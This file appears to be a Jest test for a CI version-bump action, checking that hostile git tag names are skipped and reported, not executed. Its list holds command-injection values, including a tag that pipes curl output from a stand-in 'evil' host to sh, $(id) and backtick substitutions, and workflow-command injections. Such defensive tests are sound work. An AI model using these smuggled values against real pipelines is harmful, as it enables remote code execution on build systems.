import { expect, test } from "@jest/globals";
import { describeRun } from "../../support/describe-run.ts";
import { openScenario } from "../../support/open-scenario.ts";

const HOSTILE = [
  "v99999999999999999999.0.0",
  "v1.0.0-0123",
  "refs/tags/v1",
  "refs/tags/v9.9.9",
  'v1.0.0";curl$' + '{IFS}evil|sh;"',
  "v1.0.0`id`",
  "v1.0.0$(id)",
  "v1.0",
  "v1",
  "v1.0.0\u202e",
  "v2.0.0%0Agone",
  "v2.0.0##gone",
];

test("hostile tag names are passed over and listed, and nothing of them is obeyed", async () => {
  await using scenario = await openScenario({
    history: ["feat: first", { tag: "v1.0.0" }, "fix: second", ...HOSTILE.map((tag) => ({ tag }))],
  });

  for (const checkout of ["full", "none"] as const) {
    const result = await scenario.run({ action: "version-bump", checkout });

    expect(describeRun(result)).toMatchSnapshot(checkout);
    expect(result.outputs).toMatchObject({ released: "true", version: "1.0.1", "previous-tag": "v1.0.0" });
    const [component] = JSON.parse(result.outputs.result ?? "").components;
    expect(component.passedOver.map(({ tag }: { tag: string }) => tag).sort()).toEqual([...HOSTILE].sort());
    expect(result.log).not.toMatch(/^::(?!add-mask)|##\[/m);
  }
});
